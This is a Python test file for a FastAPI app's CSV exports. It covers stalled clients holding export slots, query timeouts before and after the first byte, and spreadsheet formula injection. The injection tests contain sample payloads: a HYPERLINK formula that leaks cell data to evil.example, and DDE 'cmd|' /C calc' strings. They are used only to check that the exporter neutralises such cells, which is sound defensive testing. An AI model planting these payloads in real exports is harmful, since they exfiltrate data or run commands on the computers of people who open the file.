"""CSV exports under stress, on every backend: clients that stop reading, more exports than
slots, errors before and after the first byte, and cells a spreadsheet would run as formulas.

The slow-reader tests call the app's ASGI interface directly, with a `send` that never
returns once the body starts: what uvicorn's `send` does when a client has stopped reading
and its receive window and the socket buffers are full (a real socket cannot show this
reliably: the kernel buffers up to megabytes on loopback)."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import anyio
import pytest
from fastapi import FastAPI, Request
from fastapi.testclient import TestClient
from sqlalchemy import text
from sqlalchemy.engine import Engine
from starlette.types import Message

from app.config import Settings
from app.http.auth import token_hash
from app.http.state import engine_of
from app.listing.export import csv_response, neutralise, stream
from app.main import create_app
from seed import DOCUMENTS_DIR

SLOTS = Settings(export_wait_seconds=1, export_write_timeout_seconds=2)


# --- the ASGI harness ---------------------------------------------------------------------------


class Exchange:
    """One request to the app, as the server would pass it, and what the app sent back."""

    def __init__(self, path: str, *, stall: bool = False) -> None:
        self.path, _, self.query = path.partition("?")
        self.stall = stall
        self.messages: list[Message] = []
        self._asked = False

    @property
    def status(self) -> int | None:
        starts = [m for m in self.messages if m["type"] == "http.response.start"]
        return starts[0]["status"] if starts else None

    @property
    def body(self) -> bytes:
        return b"".join(m.get("body", b"") for m in self.messages[1:])

    @property
    def complete(self) -> bool:
        last = self.messages[-1] if self.messages else {}
        return last.get("type") == "http.response.body" and not last.get("more_body", False)

    async def run(self, app: FastAPI) -> Exchange:
        scope = {
            "type": "http",
            "asgi": {"version": "3.0", "spec_version": "2.3"},
            "http_version": "1.1",
            "method": "GET",
            "scheme": "http",
            "path": self.path,
            "raw_path": self.path.encode(),
            "query_string": self.query.encode(),
            "root_path": "",
            "headers": [(b"host", b"testserver")],
            "client": ("127.0.0.1", 50000),
            "server": ("127.0.0.1", 80),
        }
        await app(scope, self._receive, self._send)
        return self

    async def _receive(self) -> Message:
        if not self._asked:
            self._asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await anyio.sleep_forever()  # the client neither sends more nor goes away
        raise AssertionError

    async def _send(self, message: Message) -> None:
        self.messages.append(message)
        if self.stall and message["type"] == "http.response.body":
            await anyio.sleep_forever()  # the client stopped reading: the write never ends


def run(scenario: Any) -> None:
    """`anyio.run(scenario)` on a thread of its own (the browser tests leave an event loop
    running on this one)."""
    with ThreadPoolExecutor(1) as thread:
        thread.submit(anyio.run, scenario).result()


def idle_in_transaction(engine: Engine) -> int:
    """PostgreSQL sessions of this database left idle in a transaction (0 on SQLite)."""
    if engine.dialect.name != "postgresql":
        return 0
    with engine.connect() as connection:
        return connection.execute(
            text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND state LIKE 'idle in transaction%'"
            )
        ).scalar_one()


@pytest.fixture
def slotted(seeded_engine: Engine) -> Iterator[FastAPI]:
    app = create_app(seeded_engine, SLOTS)
    with TestClient(app):  # the lifespan: logging, the thread limiter
        yield app


def test_stalled_readers_hold_export_slots_only_until_the_write_time_out(
    slotted: FastAPI, seeded_engine: Engine
) -> None:
    """Eight clients that stop reading a findings CSV take all eight export slots. A ninth
    export waits 1 s (EXPORT_WAIT_SECONDS) and is answered 503 busy with Retry-After; a CSV
    made in memory needs no slot and is answered at once. After 2 s without progress
    (EXPORT_WRITE_TIMEOUT_SECONDS) each stalled client is cut off, its slot and its database
    connection are freed, and exports stream again."""
    stalled = [Exchange("/findings?format=csv", stall=True) for _ in range(8)]
    answers: dict[str, Exchange] = {}

    async def scenario() -> None:
        async with anyio.create_task_group() as group:
            for exchange in stalled:
                group.start_soon(exchange.run, slotted)
            while any(exchange.status is None for exchange in stalled):
                await anyio.sleep(0.01)
            started = time.monotonic()
            answers["ninth"] = await Exchange("/findings?format=csv").run(slotted)
            answers["waited"] = time.monotonic() - started  # type: ignore[assignment]
            answers["in memory"] = await Exchange("/stats/grades?format=csv").run(slotted)
        answers["after"] = await Exchange("/findings?format=csv").run(slotted)

    run(scenario)
    ninth = answers["ninth"]
    assert ninth.status == 503
    assert (b"retry-after", b"5") in ninth.messages[0]["headers"]
    assert ninth.body.startswith(
        b'{"status":503,"error":"busy","message":"8 CSV exports are streaming '
        b'(MAX_CONCURRENT_EXPORTS) and none finished within 1 s; retry shortly"'
    )
    assert answers["waited"] >= 1  # type: ignore[operator]
    assert answers["in memory"].status == 200 and answers["in memory"].complete
    assert answers["in memory"].body == (
        b"area,grade,score,judgements\r\nhelp-and-protection,requires-improvement,3,1\r\n"
        b"leadership,requires-improvement,3,1\r\noverall-effectiveness,inadequate,4,1\r\n"
        b"quality-of-practice,inadequate,4,1\r\n"
    )
    # Each stalled client got the headers and one write, never the end: it was cut off.
    assert [(e.status, len(e.messages), e.complete) for e in stalled] == [(200, 2, False)] * 8
    after = answers["after"]
    assert after.status == 200 and after.complete
    assert len(list(csv.reader(io.StringIO(after.body.decode())))) == 1 + 130
    assert seeded_engine.pool.checkedout() == 0  # type: ignore[attr-defined]
    assert idle_in_transaction(seeded_engine) == 0


def test_a_client_that_goes_away_frees_the_slot_and_connection(
    slotted: FastAPI, seeded_engine: Engine
) -> None:
    async def scenario() -> None:
        with anyio.move_on_after(0.5):  # the server sees the client leave: the task ends
            await Exchange("/findings?format=csv", stall=True).run(slotted)

    run(scenario)
    assert seeded_engine.pool.checkedout() == 0  # type: ignore[attr-defined]
    assert idle_in_transaction(seeded_engine) == 0


# --- errors before and after the first byte ----------------------------------------------------

SLOW_FROM_ROW_1001 = (
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 2000), "
    "n(y) AS (SELECT 1 UNION ALL SELECT y + 1 FROM n WHERE y < 1000000000) "
    "SELECT x, CASE WHEN x <= {fast} THEN 0 ELSE (SELECT count(*) FROM n) END AS work FROM c"
)
"""Rows 1 to `fast` come at once; the next one counts to a billion."""


def rows_of(_connection: Any, rows: list[Any]) -> list[dict[str, Any]]:
    return [{"x": row.x, "work": row.work} for row in rows]


@pytest.fixture
def timed(seeded_engine: Engine) -> Iterator[TestClient]:
    """The app with a 0.5 s statement time limit and an export of a statement that is slow
    after its first `first` rows (test-only route)."""
    app = create_app(seeded_engine, Settings(statement_timeout_seconds=0.5))

    @app.get("/slow-export-for-tests")
    def slow_export(request: Request, fast: int) -> Any:
        statement = text(SLOW_FROM_ROW_1001.format(fast=int(fast)))
        rows = stream(engine_of(request), statement, rows_of)  # type: ignore[arg-type]
        return csv_response("slow.csv", ["x", "work"], rows)

    with TestClient(app) as client:
        yield client


def test_an_error_before_the_first_byte_is_answered_with_its_own_status(
    timed: TestClient,
) -> None:
    response = timed.get("/slow-export-for-tests?fast=0")
    assert response.status_code == 503
    assert response.headers["retry-after"] == "5"
    assert response.json() == {
        "request_id": response.headers["x-request-id"],
        "status": 503,
        "error": "query_timeout",
        "message": "The query took longer than the server's limit of 0.5 s and was stopped: "
        "retry later, or narrow it with more filters or a search with fewer OR and prefix "
        "terms",
        "details": [],
    }


def test_an_error_after_the_first_byte_ends_the_csv_with_the_trailer(
    timed: TestClient, seeded_engine: Engine
) -> None:
    """The first batch (1,000 rows) is sent; the statement then runs past its time limit:
    the CSV ends with the documented `#error` record, and the response is complete. (Row
    1,001 is fast too: SQLite's driver reads one row ahead of the batch it returns.)"""
    response = timed.get("/slow-export-for-tests?fast=1001")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["x", "work"]
    assert rows[1:1001] == [[str(x), "0"] for x in range(1, 1001)]
    assert rows[1001:] == [
        [
            "#error",
            "query_timeout",
            "The query took longer than the server's limit of 0.5 s and was stopped: retry "
            "later, or narrow it with more filters or a search with fewer OR and prefix terms; "
            "the rows above are not all the rows",
        ]
    ]
    assert seeded_engine.pool.checkedout() == 0  # type: ignore[attr-defined]
    assert idle_in_transaction(seeded_engine) == 0


# --- formula injection -------------------------------------------------------------------------

TOKEN = "ofs_exports-token"
FORMULAS = {
    55: '- =HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
    56: "- +cmd|' /C calc'!A0 ensure that the reasons for all management decisions are clear",
    57: "- @SUM(1+1)*cmd|' /C calc'!A0 ensure that appropriate and timely action is taken",
    58: "- -2+3+cmd|' /C calc'!A0 ensure that managers at all levels effectively challenge",
}
"""Four recommendations of the 2013 Cheshire East report (004) rewritten as an attacker
would: each starts with a character that makes a spreadsheet cell a formula."""


def doctored_report() -> bytes:
    lines = (DOCUMENTS_DIR / "004_00ec88477df05a0b.txt").read_text().splitlines()
    for index, line in FORMULAS.items():
        lines[index] = line
    return "\n".join(lines).encode()


def test_the_neutralising_rule() -> None:
    assert [neutralise(cell) for cell in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
    ]
    assert [neutralise(cell) for cell in ["a=1", " =1", "'=1", "", -1, 2.5, None]] == [
        "a=1",
        " =1",
        "'=1",
        "",
        -1,
        2.5,
        None,
    ]


def test_cells_a_spreadsheet_would_run_are_exported_as_text(
    seeded_writable_engine: Engine,
) -> None:
    settings = Settings(api_token_hashes=[token_hash(TOKEN)])
    with TestClient(create_app(seeded_writable_engine, settings)) as client:
        uploaded = client.post(
            "/documents",
            files={"file": ("=cmd.txt", doctored_report())},
            headers={"Authorization": f"Bearer {TOKEN}"},
        )
        assert uploaded.status_code == 201, uploaded.text
        document = uploaded.json()["document"]["id"]
        exported = client.get("/findings?format=csv&inspection=4&kind=recommendation")
        searched = client.get("/findings?format=csv&q=cmd")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    texts = [row["text"] for row in rows if row["source_document_id"] == str(document)]
    assert texts[:4] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
        "'+cmd|' /C calc'!A0 ensure that the reasons for all management decisions are clear",
        "'@SUM(1+1)*cmd|' /C calc'!A0 ensure that appropriate and timely action is taken",
        "'-2+3+cmd|' /C calc'!A0 ensure that managers at all levels effectively challenge",
    ]
    # The model's columns are numbers, never text a spreadsheet could run: a recommendation's
    # polarity is neutral with probability 1, each theme's score lies between 0 and 1.
    assert {row["polarity_score"] for row in rows} == {"1.0"}
    scores = [row["theme_scores"] for row in rows]
    number = r"(0\.\d+|1\.0)"
    assert all(re.fullmatch(f"({number}(;{number})*)?", cell) for cell in scores), scores
    snippets = sorted(row["snippet"] for row in csv.DictReader(io.StringIO(searched.text)))
    assert snippets == [
        "'+<mark>cmd</mark>|' /C calc'!A0 ensure that the reasons for all management "
        "decisions are clear",
        "'-2+3+<mark>cmd</mark>|' /C calc'!A0 ensure that managers at all levels "
        "effectively challenge",
        "'@SUM(1+1)*<mark>cmd</mark>|' /C calc'!A0 ensure that appropriate and timely "
        "action is taken",
    ]
